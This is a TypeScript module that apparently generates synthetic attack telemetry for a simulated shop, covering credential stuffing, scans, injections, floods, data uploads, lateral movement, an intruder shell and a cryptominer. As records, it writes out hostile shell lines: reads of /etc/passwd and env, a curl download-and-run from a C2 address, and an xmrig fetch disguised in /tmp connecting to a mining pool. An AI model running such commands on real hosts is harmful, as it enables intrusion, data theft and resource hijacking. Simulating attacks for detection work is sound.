/**
 * A scenario's events as actors: faults flip the shop's flags; attacks send what their tools send (hydra's logins,
 * sqlmap's probes, dirb's and nikto's paths, commix's separators...) or act inside a service's process (a shell and
 * its commands, a miner, uploads to an outside address, calls to services it never calls).
 */
import type { FrontendRoute, ServiceName } from '../shop/catalog.ts';
import { PRODUCTS } from '../shop/catalog.ts';
import { operationsOf } from '../shop/model.ts';
import type { Random } from '../shop/random.ts';
import type { Account } from '../shop/state.ts';
import { SITE_HOST, TOPOLOGY } from '../shop/topology.ts';
import type { ScenarioEvent, Source } from '../scenario/parse.ts';
import type { Action, ClientRequest } from './actions.ts';
import { BROWSERS, addressInCidr } from './clients.ts';
import { commandInjectionPayloads, DIRB_COMMON, NIKTO_CHECKS, sprayingList, sqlmapPayloads, stuffingList, TRAVERSAL_PAYLOADS, XSS_PAYLOADS } from './payloads.ts';
import type { Actor } from './stream.ts';

export const TOOL_AGENTS = {
  hydra: 'Mozilla/4.0 (Hydra)',
  sqlmap: 'sqlmap/1.8.11#stable (https://sqlmap.org)',
  dirb: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)',
  gobuster: 'gobuster/3.6',
  commix: 'commix/v4.0-stable (https://commixproject.com)',
  dotdotpwn: 'DotDotPwn v3.0.2',
  xsstrike: 'Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0',
  python: 'python-requests/2.32.3',
  nikto: (test: number) => `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(test).padStart(6, '0')})`,
} as const;

export interface EventContext {
  event: ScenarioEvent;
  index: number;
  /** Absolute start of the event (ms since the epoch). */
  startMs: number;
  rng: Random;
  accounts: readonly Account[];
  /** Pids for processes the attack starts (unique within the run). */
  nextPid(): number;
}

/** Addresses of an attack: one, or drawn from the CIDR (`sticky`: a few proxies reused, as stuffing services rotate). */
function addresses(source: Source | undefined, rng: Random, fallback: () => string): () => string {
  if (!source) {
    const a = fallback();
    return () => a;
  }
  if (source.kind === 'address') return () => source.address;
  return () => addressInCidr(source, rng);
}

/** A hosting-provider address for attacks whose scenario names no source. */
function hostingAddress(rng: Random): string {
  return `${rng.pick(['45.95', '185.220', '193.142', '91.240', '162.247', '104.244'])}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
}

/** An actor that sends one request every 1/rate s (with the jitter of a tool's worker pool) while the event lasts. */
class RequestAttacker implements Actor {
  nextMs: number;
  private n = 0;
  /** `stopWhenDone`: the tool stops when `make` has nothing more to send (the end of its list). */
  constructor(private readonly ctx: EventContext, private readonly make: (n: number) => ClientRequest | ClientRequest[] | undefined, private readonly stopWhenDone = true) {
    this.nextMs = ctx.startMs;
  }
  step(out: Action[]): void {
    const { ctx } = this;
    const made = this.make(this.n++);
    if (made === undefined && this.stopWhenDone) {
      this.nextMs = Infinity;
      return;
    }
    for (const request of made === undefined ? [] : Array.isArray(made) ? made : [made]) {
      out.push({ kind: 'request', timeMs: this.nextMs, origin: 'attack', eventIndex: ctx.index, request });
    }
    const gap = 1000 / (ctx.event.rate ?? 1);
    this.nextMs += gap * (0.7 + 0.6 * ctx.rng.float());
    if (this.nextMs >= ctx.startMs + ctx.event.durationMs) this.nextMs = Infinity;
  }
}

/** Actions at fixed offsets from the event's start (a fault's on and off, an intruder's commands). */
class ScriptActor implements Actor {
  nextMs: number;
  private i = 0;
  constructor(private readonly script: Action[]) {
    script.sort((a, b) => a.timeMs - b.timeMs);
    this.nextMs = script[0]?.timeMs ?? Infinity;
  }
  step(out: Action[]): void {
    while (this.i < this.script.length && this.script[this.i]!.timeMs <= this.nextMs) out.push(this.script[this.i++]!);
    this.nextMs = this.script[this.i]?.timeMs ?? Infinity;
  }
}

function request(method: string, path: string, userAgent: string, clientAddress: string, extra: { query?: string; body?: string; headers?: Array<[string, string]> } = {}): ClientRequest {
  const headers: Array<[string, string]> = [['host', SITE_HOST], ['user-agent', userAgent], ...(extra.headers ?? [])];
  if (extra.body !== undefined) headers.push(['content-type', 'application/json']);
  return { method, path, headers, clientAddress, query: extra.query, body: extra.body };
}

/** Percent-encodes a payload for a URL, leaving payloads that are already encoded (traversal tricks) as the tool sends them. */
export function urlPart(payload: string): string {
  return /%[0-9a-fA-F]{2}/.test(payload) ? payload.replace(/[\s#?&]/g, (c) => encodeURIComponent(c)) : encodeURIComponent(payload);
}

/** A value a normal client would send for a parameter (the parameters not under attack keep these). */
export function normalValue(name: string, rng: Random): unknown {
  switch (name) {
    case 'currencyCode': case 'userCurrency': return 'USD';
    case 'productId': case 'productIds': case 'item.productId': return rng.pick(PRODUCTS).id;
    case 'contextKeys': return 'telescopes';
    case 'item.quantity': return 1;
    case 'itemList': return JSON.stringify([{ productId: PRODUCTS[0]!.id, quantity: 1 }]);
    case 'address': return JSON.stringify({ streetAddress: '1600 Amphitheatre Parkway', city: 'Mountain View', state: 'CA', country: 'United States', zipCode: '94043' });
    case 'email': return 'someone@example.com';
    case 'username': return 'admin';
    case 'password': return 'admin';
    case 'address.streetAddress': return '1 Main St';
    case 'address.city': return 'Springfield';
    case 'address.state': return 'IL';
    case 'address.country': return 'United States';
    case 'address.zipCode': return '62701';
    default: return rng.hex(8);
  }
}

/** A request to `route` with `payload` in parameter `param` and normal values in the others. */
export function injectedRequest(route: FrontendRoute, param: string, payload: string, rng: Random, userAgent: string, clientAddress: string, headers: Array<[string, string]> = []): ClientRequest {
  let path = route.route;
  const query: string[] = [];
  const body: Record<string, unknown> = {};
  for (const p of route.parameters) {
    const value = p.name === param ? payload : normalValue(p.name, rng);
    if (p.place === 'path') path = path.replace(`{${p.name}}`, p.name === param ? urlPart(payload) : encodeURIComponent(String(value)));
    else if (p.place === 'query') query.push(`${p.name}=${p.name === param ? urlPart(payload) : encodeURIComponent(String(value))}`);
    else {
      const keys = p.name.split('.');
      let at = body;
      for (const k of keys.slice(0, -1)) at = (at[k] ??= {}) as Record<string, unknown>;
      at[keys.at(-1)!] = value;
    }
  }
  const hasBody = route.parameters.some((p) => p.place === 'body');
  return request(route.method, path, userAgent, clientAddress, { query: query.length ? query.join('&') : undefined, body: hasBody ? JSON.stringify(body) : undefined, headers });
}

function credentials(ctx: EventContext): string[] {
  if (ctx.event.payloads) return ctx.event.payloads;
  if (ctx.event.kind === 'password_spraying') return sprayingList(ctx.rng, ctx.accounts);
  return stuffingList(ctx.rng, ctx.accounts, Math.max(1500, Math.ceil((ctx.event.rate ?? 1) * ctx.event.durationMs / 1000) + 10));
}

function injectionPayloads(ctx: EventContext, param: string): string[] {
  if (ctx.event.payloads) return ctx.event.payloads;
  const base = String(normalValue(param, ctx.rng));
  switch (ctx.event.kind) {
    case 'sql_injection': return sqlmapPayloads(base, ctx.rng);
    case 'xss': return [...XSS_PAYLOADS];
    case 'path_traversal': return [...TRAVERSAL_PAYLOADS];
    default: return commandInjectionPayloads(base, ctx.rng);
  }
}

const INJECTION_TOOLS: Record<string, { agent: string; headers: Array<[string, string]> }> = {
  sql_injection: { agent: TOOL_AGENTS.sqlmap, headers: [['accept', '*/*'], ['accept-encoding', 'gzip,deflate'], ['cache-control', 'no-cache'], ['connection', 'close']] },
  xss: { agent: TOOL_AGENTS.xsstrike, headers: [['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'], ['accept-language', 'en-US,en;q=0.5'], ['connection', 'close']] },
  path_traversal: { agent: TOOL_AGENTS.dotdotpwn, headers: [['accept', '*/*'], ['connection', 'close']] },
  command_injection: { agent: TOOL_AGENTS.commix, headers: [['accept', '*/*'], ['connection', 'close']] },
};

function injectionActor(ctx: EventContext, route: FrontendRoute): Actor {
  const from = addresses(ctx.event.source, ctx.rng, () => hostingAddress(ctx.rng));
  const tool = INJECTION_TOOLS[ctx.event.kind]!;
  // Like sqlmap, the tool works through the parameters one after the other, each with its whole list.
  const plan: Array<[string, string]> = [];
  for (const p of route.parameters) for (const payload of injectionPayloads(ctx, p.name)) plan.push([p.name, payload]);
  return new RequestAttacker(ctx, (n) => {
    const [param, payload] = plan[n % plan.length]!;
    // sqlmap and commix first send the original request to compare against.
    const original = n % plan.length === 0 || (ctx.event.kind === 'sql_injection' && ctx.rng.chance(0.08));
    return injectedRequest(route, param, original ? String(normalValue(param, ctx.rng)) : payload, ctx.rng, tool.agent, from(), tool.headers);
  });
}

function credentialActor(ctx: EventContext): Actor {
  const from = addresses(ctx.event.source, ctx.rng, () => hostingAddress(ctx.rng));
  const list = credentials(ctx);
  const spraying = ctx.event.kind === 'password_spraying';
  const agent = spraying ? ctx.rng.pick([TOOL_AGENTS.python, ...BROWSERS.slice(0, 3)]) : TOOL_AGENTS.hydra;
  // Like hydra, the attack ends with its list.
  return new RequestAttacker(ctx, (n) => {
    const line = list[n];
    if (line === undefined) return undefined;
    const colon = line.indexOf(':');
    return request('POST', '/api/login', agent, from(), { body: JSON.stringify({ username: line.slice(0, colon), password: line.slice(colon + 1) }), headers: [['accept', '*/*']] });
  });
}

function scanActor(ctx: EventContext, base: { method: 'GET' | 'HEAD'; path: string }): Actor {
  const from = addresses(ctx.event.source, ctx.rng, () => hostingAddress(ctx.rng));
  const tool = ctx.event.payloads ? ctx.rng.pick(['dirb', 'gobuster'] as const) : ctx.rng.pick(['dirb', 'nikto', 'gobuster'] as const);
  const prefix = base.path.endsWith('/') ? base.path : `${base.path}/`;
  const join = (p: string) => `${prefix}${p.replace(/^\/+/, '')}`.replace(/#/g, '%23');
  const split = (p: string): { path: string; query?: string } => {
    const q = p.indexOf('?');
    return q < 0 ? { path: p } : { path: p.slice(0, q), query: p.slice(q + 1) };
  };
  // A scan ends when its list does.
  if (tool === 'nikto') {
    const checks: Array<readonly [string, string]> = [...NIKTO_CHECKS, ...scanWords(DIRB_COMMON).map((w) => ['GET', w] as const)];
    return new RequestAttacker(ctx, (n) => {
      const check = checks[n];
      if (!check) return undefined;
      const target = split(join(check[1]));
      return request(check[0], target.path, TOOL_AGENTS.nikto(1000 + n), from(), { query: target.query, headers: [['connection', 'Keep-Alive']] });
    });
  }
  const words = ctx.event.payloads ?? scanWords(DIRB_COMMON);
  return new RequestAttacker(ctx, (n) => {
    const word = words[n];
    if (word === undefined) return undefined;
    const target = split(join(word));
    return request(base.method, target.path, tool === 'dirb' ? TOOL_AGENTS.dirb : TOOL_AGENTS.gobuster, from(), { query: target.query, headers: tool === 'dirb' ? [['accept', '*/*']] : [['accept-encoding', 'gzip']] });
  });
}

/** A wordlist as dirb -X walks it: each word, then as a directory, then with common extensions. */
export function scanWords(words: readonly string[]): string[] {
  const out: string[] = [];
  for (const w of words) {
    out.push(w);
    if (!/\.[a-z0-9]+$/i.test(w) && !w.endsWith('/')) out.push(`${w}/`);
  }
  for (const ext of ['.php', '.bak', '.old', '.zip', '.txt', '.sql', '.tar.gz', '.json', '.html']) {
    for (const w of words) if (!/\.[a-z0-9]+$/i.test(w) && !w.includes('/')) out.push(`${w}${ext}`);
  }
  return out;
}

function floodActor(ctx: EventContext, route: FrontendRoute): Actor {
  const source = ctx.event.source ?? { kind: 'cidr' as const, cidr: '45.128.0.0/16', family: 4 as const, network: '45.128.0.0', prefix: 16 };
  const from = addresses(source, ctx.rng, () => hostingAddress(ctx.rng));
  const agents = [...BROWSERS.slice(0, 4), 'Go-http-client/1.1', 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1'];
  return new RequestAttacker(ctx, () => {
    const query = route.parameters.filter((p) => p.place === 'query').map((p) => `${p.name}=${encodeURIComponent(String(normalValue(p.name, ctx.rng)))}`).join('&');
    const path = route.route.replace(/\{[^}]+\}/g, () => ctx.rng.pick(PRODUCTS).id);
    const body = route.method === 'POST' ? JSON.stringify(Object.fromEntries(route.parameters.filter((p) => p.place === 'body').map((p) => [p.name, normalValue(p.name, ctx.rng)]))) : undefined;
    return request(route.method, path, ctx.rng.pick(agents), from(), { query: query || undefined, body, headers: [['accept', '*/*']] });
  });
}

/** Data pulled out through the frontend: one client downloading a route over and over, far beyond what shoppers do. */
function scrapeActor(ctx: EventContext, route: FrontendRoute): Actor {
  const from = addresses(ctx.event.source, ctx.rng, () => hostingAddress(ctx.rng));
  return new RequestAttacker(ctx, () => {
    const query = route.parameters.filter((p) => p.place === 'query').map((p) => `${p.name}=${encodeURIComponent(String(normalValue(p.name, ctx.rng)))}`).join('&');
    const path = route.route.replace(/\{[^}]+\}/g, () => ctx.rng.pick(PRODUCTS).id);
    return request(route.method, path, TOOL_AGENTS.python, from(), { query: query || undefined, headers: [['accept', '*/*'], ['accept-encoding', 'gzip, deflate']] });
  });
}

/** Uploads from a service's process to an outside address over TLS: a database dump leaving in chunks. */
function uploadActor(ctx: EventContext, service: ServiceName): Actor {
  const to = ctx.event.source ? (ctx.event.source.kind === 'address' ? ctx.event.source.address : addressInCidr(ctx.event.source, ctx.rng)) : hostingAddress(ctx.rng);
  const base = new RequestAttacker(ctx, () => undefined, false);
  return {
    get nextMs() { return base.nextMs; },
    step(out) {
      const t = base.nextMs;
      const bytes = ctx.rng.int(2_000_000, 8_000_000);
      out.push({ kind: 'connection', timeMs: t, origin: 'attack', eventIndex: ctx.index, service, remote: { address: to, port: 443 }, bytesSent: bytes, bytesReceived: ctx.rng.int(3_000, 9_000), durationMs: bytes / 12_000 });
      base.step([]);
    },
  };
}

/** A compromised service calling another it never calls: the operations the callee serves, or its host's SSH port. */
function lateralActor(ctx: EventContext, caller: ServiceName, callee: ServiceName): Actor {
  const ops = operationsOf(callee);
  const base = new RequestAttacker(ctx, () => undefined, false);
  const probe = (op: string): unknown => {
    if (op.endsWith('/Charge')) return { amount: { currencyCode: 'USD', units: 1 }, creditCard: { creditCardNumber: '4111111111111111', creditCardExpirationYear: 2030, creditCardExpirationMonth: 1, creditCardCvv: 123 } };
    if (op.endsWith('/GetCart') || op.endsWith('/EmptyCart')) return { userId: `${ctx.rng.hex(4)}-${ctx.rng.hex(2)}` };
    if (op.endsWith('/GetProduct')) return { id: ctx.rng.pick(PRODUCTS).id };
    if (op.endsWith('/PlaceOrder')) return { userId: ctx.rng.hex(8), userCurrency: 'USD', email: 'x@example.com' };
    return {};
  };
  return {
    get nextMs() { return base.nextMs; },
    step(out) {
      const t = base.nextMs;
      const target = TOPOLOGY[callee];
      if (ops.length > 0) {
        const op = ctx.rng.pick(ops);
        out.push({ kind: 'connection', timeMs: t, origin: 'attack', eventIndex: ctx.index, service: caller, remote: { address: target.address, port: target.port }, bytesSent: ctx.rng.int(300, 900), bytesReceived: ctx.rng.int(100, 2_000), durationMs: 20 });
        out.push({ kind: 'call', timeMs: t + 1, origin: 'attack', eventIndex: ctx.index, from: caller, operation: op.id, request: probe(op.id) });
      } else {
        out.push({ kind: 'connection', timeMs: t, origin: 'attack', eventIndex: ctx.index, service: caller, remote: { address: target.address, port: 22 }, bytesSent: ctx.rng.int(1_500, 4_000), bytesReceived: ctx.rng.int(1_500, 3_000), durationMs: ctx.rng.int(200, 3_000) });
      }
      base.step([]);
    },
  };
}

function c2Address(ctx: EventContext): string {
  return ctx.event.source?.kind === 'address' ? ctx.event.source.address : ctx.event.source ? addressInCidr(ctx.event.source, ctx.rng) : hostingAddress(ctx.rng);
}

/** An intruder's shell in a service's process tree: reconnaissance, a download, and the dropped binary that runs on. */
function intruderScript(ctx: EventContext, service: ServiceName): Action[] {
  const { rng } = ctx;
  const svc = TOPOLOGY[service];
  const c2 = c2Address(ctx);
  const base = { origin: 'attack' as const, eventIndex: ctx.index, service };
  const end = ctx.startMs + ctx.event.durationMs;
  const out: Action[] = [];
  const shell = (t: number, command: string, children: Array<[string, string[]]>) => {
    const sh = ctx.nextPid();
    out.push({ ...base, kind: 'exec', timeMs: t, pid: sh, parentPid: svc.pid, binary: '/bin/sh', args: ['sh', '-c', command], runMs: 50 });
    children.forEach(([binary, args], i) => out.push({ ...base, kind: 'exec', timeMs: t + 2 + i * 3, pid: ctx.nextPid(), parentPid: sh, binary, args, runMs: 20 }));
  };
  const t0 = ctx.startMs;
  shell(t0, 'id', [['/usr/bin/id', ['id']]]);
  shell(t0 + 4_000, 'uname -a; cat /etc/passwd', [['/usr/bin/uname', ['uname', '-a']], ['/bin/cat', ['cat', '/etc/passwd']]]);
  const dropped = `/tmp/.${rng.token(6).toLowerCase()}`;
  const tDrop = t0 + Math.min(12_000, ctx.event.durationMs / 3);
  if (tDrop < end) {
    shell(tDrop, `curl -fsSL http://${c2}/k -o ${dropped} && chmod +x ${dropped} && ${dropped}`, [['/usr/bin/curl', ['curl', '-fsSL', `http://${c2}/k`, '-o', dropped]], ['/bin/chmod', ['chmod', '+x', dropped]]]);
    out.push({ ...base, kind: 'connection', timeMs: tDrop + 3, remote: { address: c2, port: 80 }, bytesSent: 140, bytesReceived: rng.int(800_000, 2_500_000), durationMs: 900 });
    const pid = ctx.nextPid();
    out.push({ ...base, kind: 'exec', timeMs: tDrop + 1_000, pid, parentPid: svc.pid, binary: dropped, args: [dropped], runMs: Math.max(0, end - tDrop - 1_000), cpuCores: 0.02 });
    for (let t = tDrop + 1_500; t < end; t += 30_000) {
      out.push({ ...base, kind: 'connection', timeMs: t, pid, remote: { address: c2, port: 443 }, bytesSent: rng.int(400, 1_200), bytesReceived: rng.int(200, 900), durationMs: 300 });
    }
  }
  const recon: Array<[string, Array<[string, string[]]>]> = [
    ['ls -la /app', [['/bin/ls', ['ls', '-la', '/app']]]], ['env', [['/usr/bin/env', ['env']]]], ['ps aux', [['/bin/ps', ['ps', 'aux']]]],
    ['cat /proc/self/cgroup', [['/bin/cat', ['cat', '/proc/self/cgroup']]]], ['netstat -tnlp', [['/bin/netstat', ['netstat', '-tnlp']]]],
  ];
  let t = t0 + 20_000;
  for (const [command, children] of recon) {
    if (t >= end) break;
    shell(t, command, children);
    t += 15_000 + rng.int(0, 15_000);
  }
  return out;
}

/** A miner dropped into a service's process tree: download, run, a stratum connection to the pool, all cores busy. */
function minerScript(ctx: EventContext, service: ServiceName): Action[] {
  const { rng } = ctx;
  const svc = TOPOLOGY[service];
  const pool = ctx.event.source ? c2Address(ctx) : '94.130.164.163';
  const dl = hostingAddress(rng);
  const base = { origin: 'attack' as const, eventIndex: ctx.index, service };
  const t0 = ctx.startMs;
  const end = t0 + ctx.event.durationMs;
  const dir = '/tmp/.X25-unix';
  const sh = ctx.nextPid();
  const miner = ctx.nextPid();
  const wallet = `4${rng.token(94)}`;
  return [
    { ...base, kind: 'exec', timeMs: t0, pid: sh, parentPid: svc.pid, binary: '/bin/sh', args: ['sh', '-c', `mkdir -p ${dir}; curl -s http://${dl}/xmrig -o ${dir}/kdevtmpfsi; chmod +x ${dir}/kdevtmpfsi; ${dir}/kdevtmpfsi -o stratum+tcp://${pool}:3333 -u ${wallet} -k --donate-level 1 -B`], runMs: 3_000 },
    { ...base, kind: 'exec', timeMs: t0 + 2, pid: ctx.nextPid(), parentPid: sh, binary: '/bin/mkdir', args: ['mkdir', '-p', dir], runMs: 5 },
    { ...base, kind: 'exec', timeMs: t0 + 8, pid: ctx.nextPid(), parentPid: sh, binary: '/usr/bin/curl', args: ['curl', '-s', `http://${dl}/xmrig`, '-o', `${dir}/kdevtmpfsi`], runMs: 2_000 },
    { ...base, kind: 'connection', timeMs: t0 + 10, remote: { address: dl, port: 80 }, bytesSent: 160, bytesReceived: rng.int(6_500_000, 8_200_000), durationMs: 1_900 },
    { ...base, kind: 'exec', timeMs: t0 + 2_100, pid: ctx.nextPid(), parentPid: sh, binary: '/bin/chmod', args: ['chmod', '+x', `${dir}/kdevtmpfsi`], runMs: 5 },
    { ...base, kind: 'exec', timeMs: t0 + 2_200, pid: miner, parentPid: sh, binary: `${dir}/kdevtmpfsi`, args: [`${dir}/kdevtmpfsi`, '-o', `stratum+tcp://${pool}:3333`, '-u', wallet, '-k', '--donate-level', '1', '-B'], runMs: Math.max(0, end - t0 - 2_200), cpuCores: 1.85 },
    { ...base, kind: 'connection', timeMs: t0 + 2_400, pid: miner, remote: { address: pool, port: 3333 }, bytesSent: Math.round(ctx.event.durationMs / 1000 * 90), bytesReceived: Math.round(ctx.event.durationMs / 1000 * 160), durationMs: Math.max(0, end - t0 - 2_400) },
  ];
}

/** The actors of one scenario event. */
export function eventActors(ctx: EventContext): Actor[] {
  const { event } = ctx;
  const target = event.target;
  const end = ctx.startMs + event.durationMs;
  const base = { origin: 'attack' as const, eventIndex: ctx.index };
  switch (event.kind) {
    case 'product_catalog_failure': {
      const product = target.kind === 'product' ? target.productId : undefined;
      return [new ScriptActor([
        { ...base, kind: 'flags', timeMs: ctx.startMs, description: `productCatalogFailure on (${product})`, change: (f) => { f.failingProduct = product; } },
        { ...base, kind: 'flags', timeMs: end, description: 'productCatalogFailure off', change: (f) => { f.failingProduct = undefined; } },
      ])];
    }
    case 'latency_degradation': {
      const service = (target as { service: ServiceName }).service;
      const extra = 250 + ctx.rng.int(0, 250);
      return [new ScriptActor([
        { ...base, kind: 'flags', timeMs: ctx.startMs, description: `${service} slow (+${extra} ms)`, change: (f) => { f.slowServices[service] = extra; } },
        { ...base, kind: 'flags', timeMs: end, description: `${service} back to normal`, change: (f) => { delete f.slowServices[service]; } },
      ])];
    }
    case 'credential_stuffing':
    case 'password_spraying':
      return [credentialActor(ctx)];
    case 'scanning':
      return [scanActor(ctx, target as { method: 'GET' | 'HEAD'; path: string })];
    case 'sql_injection':
    case 'xss':
    case 'path_traversal':
    case 'command_injection':
      return [injectionActor(ctx, (target as { route: FrontendRoute }).route)];
    case 'flood':
      return [floodActor(ctx, (target as { route: FrontendRoute }).route)];
    case 'exfiltration':
      return [target.kind === 'service' ? uploadActor(ctx, target.service) : scrapeActor(ctx, (target as { route: FrontendRoute }).route)];
    case 'lateral_movement': {
      const edge = target as { caller: ServiceName; callee: ServiceName };
      return [lateralActor(ctx, edge.caller, edge.callee)];
    }
    case 'new_binary':
      return [new ScriptActor(intruderScript(ctx, (target as { service: ServiceName }).service))];
    case 'cryptominer':
      return [new ScriptActor(minerScript(ctx, (target as { service: ServiceName }).service))];
  }
}
